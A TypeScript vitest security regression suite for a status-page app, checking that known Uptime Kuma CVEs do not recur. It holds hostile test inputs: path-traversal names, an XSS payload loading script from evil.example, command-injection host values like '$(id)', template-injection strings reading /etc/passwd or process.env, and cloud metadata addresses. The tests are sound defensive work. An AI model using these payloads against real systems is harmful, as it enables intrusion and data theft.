import { join, normalize } from 'node:path'
import fc from 'fast-check'
import { parse } from 'parse5'
import { expect, test } from 'vitest'
import { accounts } from '../../src/domain/accounts/queries.ts'
import { setUpLink } from '../../src/domain/accounts/first-run.ts'
import { createComponent, removeComponent } from '../../src/domain/components/commands.ts'
import { draftIncident } from '../../src/domain/incidents/drafts.ts'
import { openIncident } from '../../src/domain/incidents/commands.ts'
import { createMetric } from '../../src/domain/metrics/commands.ts'
import { kinds } from '../../src/domain/probes/kinds/index.ts'
import { changeSite } from '../../src/domain/site/commands.ts'
import { createTemplate } from '../../src/domain/templates/commands.ts'
import { Invalid } from '../../src/lib/errors.ts'
import { mayReach, parseNetwork } from '../../src/lib/guard.ts'
import { readPattern } from '../../src/lib/patterns.ts'
import { fileOf } from '../../src/outbound/mirroring/names.ts'
import { password, people, signsIn, stranger } from '../people.ts'
import { type World, world } from '../world.ts'
import { filesThatSay } from './source.ts'

/** What hit Uptime Kuma, held against Candor: security.md, “What hit the peers”, 1. */

const operator = { kind: 'operator', id: 'ada', name: 'Ada' } as const

test('CVE-2023-36822, GHSA-5px6-fx2w-459r: no name leads out of a folder, neither of assets nor of the mirror', async () => {
  const part = fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '..%2f',
    '%2f',
    '..\\',
    '%5c',
    'a',
    '.git',
    '%00',
    '....//',
    '/etc/passwd',
  )
  fc.assert(
    fc.property(fc.array(part, { minLength: 1, maxLength: 6 }), (parts) => {
      const file = fileOf(`/${parts.join('/')}`, 'text/html')
      if (file === null) return
      expect(normalize(join('/srv/status', file)).startsWith('/srv/status/')).toBe(true)
      expect(file.split('/')).not.toContain('.git')
    }),
    { numRuns: 500 },
  )
  const { app } = await (await world()).app()
  for (const name of [
    '../../package.json',
    '..%2f..%2fpackage.json',
    '%2e%2e/package.json',
    '....//package.json',
    'x%00.css',
  ]) {
    expect([name, (await app.inject(`/assets/${name}`)).statusCode]).toEqual([name, 404])
  }
})

test('CVE-2023-44400, GHSA-g9v2: a session that was signed out opens nothing', async () => {
  const it = await world()
  await people(it)
  const ada = { ...(await stranger(it)), name: 'Ada' }
  const cookie = String((await signsIn(ada)).headers['set-cookie']).split(';')[0] ?? ''
  const { app } = await it.app()
  const opens = async (): Promise<number> => (await app.inject({ url: '/admin/me', headers: { cookie } })).statusCode
  expect(await opens()).toBe(200)
  await ada.sends('/admin/sign-out', {}, '/admin/me')
  expect(await opens()).toBe(401)
})

test('CVE-2023-49804, GHSA-88j4: a new password ends every other session', async () => {
  const it = await world()
  const { ada } = await people(it)
  const second = { ...(await stranger(it)), name: 'Ada' }
  await signsIn(second)
  expect((await second.opens('/admin/me')).status).toBe(200)
  await ada.sends('/admin/me/password', { current: password, next: 'four other unrelated herons' }, '/admin/me')
  expect((await second.opens('/admin/me')).status).toBe(401)
})

test('GHSA-mj22-23ff-2hrr: nothing is upgraded to a socket, and a form of another origin is refused', async () => {
  const it = await world()
  const { ada } = await people(it)
  const upgrade = {
    connection: 'upgrade',
    upgrade: 'websocket',
    'sec-websocket-version': '13',
    'sec-websocket-key': 'eA==',
  }
  const { app } = await it.app()
  for (const url of ['/', '/admin', '/api/v2/summary.json']) {
    expect((await app.inject({ url, headers: { ...upgrade, origin: 'https://evil.example' } })).statusCode).not.toBe(
      101,
    )
  }
  expect(app.server.listenerCount('upgrade')).toBe(0)
  const answer = await ada.agent
    .post('/admin/sign-out')
    .set({ origin: 'https://evil.example' })
    .type('form')
    .send('token=x')
  expect(answer.status).toBe(403)
})

test('CVE-2023-49276, GHSA-v4v2: a setting that is written into the page adds no attribute and no element', async () => {
  const it = await world()
  const attack = `G-1"></script><script src=//evil.example/x.js onload="alert(1)`
  await it.change(operator, (change) => changeSite(change, { name: attack, description: attack }))
  const { app, publication } = await it.app()
  await publication.refresh()
  const { body } = await app.inject('/')
  expect(body).toContain('&lt;script src=//evil.example')
  const found = JSON.stringify(parse(body), (key, value: unknown) => (key === 'parentNode' ? undefined : value))
  expect(found).not.toContain('"nodeName":"script","tagName":"script","attrs":[{"name":"src","value":"//evil')
  expect(found).not.toContain('"name":"onload"')
})

test('GHSA-hfxh-rjv7-2369, CVE-2026-27728: no other program is started, and no host is an option or a command', () => {
  // Forks of our own code, and `ping`, which is given an address that was judged, and no shell.
  const starters = ['src/followers.ts', 'src/lib/errand.ts', 'src/lib/ping.ts', 'src/web/pictures/painter.ts']
  expect(filesThatSay(/child_process/)).toEqual(starters)
  expect(filesThatSay(/\bexecSync|\bspawn(?:Sync)?\(|\bshell: (?:true|['"`])/)).toEqual([])
  for (const host of ['-oProxyCommand=x', '--', '$(id)', '`id`', 'a;id', 'a|id', 'a b', 'a\nb', '-c1']) {
    for (const kind of [kinds.icmp, kinds.tcp, kinds.tls]) {
      expect(() => kind.read({ host, port: 443, count: 1 } as never), host).toThrow(Invalid)
    }
  }
})

test.each([
  'file:///etc/passwd',
  'gopher://a.example',
  'ftp://a.example',
  'data:text/html,x',
  `javascript${':'}1`,
  'view-source:http://a',
])('CVE-2024-56331, GHSA-2qgm: no kind of probe takes %s for an address', (url) => {
  expect(() => kinds.http.read({ url })).toThrow(Invalid)
  expect(() => kinds.websocket.read({ url })).toThrow(Invalid)
  expect(() => kinds.upstream.read({ page: url })).toThrow(Invalid)
  expect(() => kinds.browser.read({ url, steps: '' } as never)).toThrow(Invalid)
  expect(() => kinds.domain.read({ domain: 'shop.test', directory: url })).toThrow(Invalid)
})

test('CVE-2025-26042, GHSA-hx7h: what strangers send is searched by patterns in linear time only', () => {
  for (const [source, text] of [
    [String.raw`\/*$`, `${'/'.repeat(50_000)}x`],
    ['^(a+)+$', `${'a'.repeat(50_000)}!`],
    ['(x+x+)+y', 'x'.repeat(50_000)],
  ] as const) {
    const pattern = readPattern(source)
    expect('findIn' in pattern && pattern.findIn(text)).toMatch(/^(?:yes|no|too_long)$/)
  }
  // Patterns that are put together are put together of our own words: a new one of these files is looked at first.
  expect(filesThatSay(/new RegExp\(/)).toEqual([
    'src/domain/coach/atoms.ts',
    'src/domain/probes/visit.ts',
    'src/domain/subscribers/inbound/mail.ts',
    'src/lib/csv.ts',
    'src/lib/fold.ts',
    'src/lib/recurrence.ts',
    'src/lib/script.ts',
    'src/web/markdown/negotiate.ts',
    'src/web/shared/paths.ts',
  ])
})

test('GHSA-vffh-c9pq-4crh, CVE-2026-33130, GHSA-v832, GHSA-gf2q-c269-pqgc: a template is words with places, and runs nothing', async () => {
  const it = await world()
  const make = (body: string) =>
    it.change(operator, (change) => createTemplate(change, { name: `T ${body}`.slice(0, 90), use: 'incident', body }))
  for (const body of [
    '{% include "/etc/passwd" %}',
    '<%= process.env %>',
    '${process.exit(1)}',
    '{%raw%}x{%endraw%}',
  ]) {
    await make(body)
  }
  const { ada } = await people(it)
  const { text } = await ada.opens('/admin/templates')
  expect(text).not.toContain('root:x:0')
  for (const body of ['{{constructor}}', '{{ text.constructor("x")() }}', '{{__proto__}}']) {
    await expect(make(body)).rejects.toThrow(/no placeholder|placeholder/)
  }
})

test('CVE-2026-32230, GHSA-c7hf: what is not public has no badge, no page, no feed and no chart', async () => {
  const it = await world()
  const ids = await it.change(operator, async (change) => {
    const component = await createComponent(change, { name: 'Canary cellar' })
    const gone = await createComponent(change, { name: 'Canary attic' })
    const open = await openIncident(change, { name: 'Seen', body: 'We look.', stage: 'investigating' })
    const draft = await draftIncident(change, {
      name: 'Canary draft',
      body: 'Canary body.',
      beganAt: change.now,
      components: [{ id: component, status: 'major_outage' }],
    })
    const metric = await createMetric(change, { name: 'Canary queue', suffix: '', decimals: 0, shown: 'no' })
    await removeComponent(change, gone)
    return { draft, metric, open }
  })
  const { app, publication } = await it.app()
  await publication.refresh()
  for (const path of [
    `/incidents/${ids.draft}`,
    `/incidents/${ids.draft}.md`,
    `/incidents/${ids.draft}.json`,
    `/incidents/${ids.draft}/picture.png`,
    `/api/v2/incidents/${ids.draft}.json`,
    `/charts/${ids.metric}`,
    ...['', '/badge.svg', '/badge.json', '/uptime.svg', '/latency.svg', '/calendar.ics', '/charts', '/embed.json'].map(
      (end) => `/components/canary-attic${end}`,
    ),
  ]) {
    expect([path, (await app.inject(path)).statusCode]).toEqual([path, 404])
  }
  const told: string[] = []
  await publication.walk(async (path, document) => {
    if (/Canary (?:draft|body|queue)/.test(document.encodings.identity.body.toString())) told.push(path)
  })
  expect(told).toEqual([])
  expect((await app.inject(`/incidents/${ids.open}`)).statusCode).toBe(200)
})

test('GHSA-qjxc-h5jf-c7rj: no list of the operator opens the addresses where clouds keep their keys', () => {
  const everything = [parseNetwork('0.0.0.0/0')!, parseNetwork('::/0')!]
  for (const address of [
    '169.254.169.254',
    'fd00:ec2::254',
    'fe80::1',
    '::ffff:169.254.169.254',
    '64:ff9b::a9fe:a9fe',
    '100.100.100.200',
  ]) {
    expect([address, mayReach(address, everything)]).toEqual([address, false])
  }
  expect(mayReach('10.0.0.1', everything)).toBe(true)
})

test('setup at the same time (public lab): of fifty who set up at once, one owns the page', async () => {
  const it = await world()
  const cy = await stranger(it)
  const link = new URL((await setUpLink(it)) ?? '')
  const page = await cy.opens(`${link.pathname}${link.search}`)
  const token = /name="token" value="([^"]+)"/.exec(page.text)?.[1] ?? ''
  const secret = link.searchParams.get('secret') ?? ''
  const answers = await Promise.all(Array.from({ length: 50 }, (_, at) => sendsSetUp(cy, { token, secret, at })))
  expect(answers.filter((status) => status === 303)).toHaveLength(1)
  expect(await accounts((it as World).db)).toHaveLength(1)
})

async function sendsSetUp(
  { agent }: Awaited<ReturnType<typeof stranger>>,
  { token, secret, at }: { readonly token: string; readonly secret: string; readonly at: number },
): Promise<number> {
  const body = new URLSearchParams({ token, secret, name: `Eve ${at}`, email: `eve${at}@example.org`, password })
  return (await agent.post('/setup').set('sec-fetch-site', 'same-origin').type('form').send(body.toString())).status
}

/** What has no equivalent here, and why. */
test('nothing of the list is forgotten: what has no equivalent says why', () => {
  const without: Readonly<Record<string, string>> = {
    'GHSA-23q2-5gf8-gjpp':
      'The desk cannot be opened without signing in, so there is no switch; nobody is answered over a socket that outlives its request.',
  }
  expect(Object.keys(without)).toHaveLength(1)
})
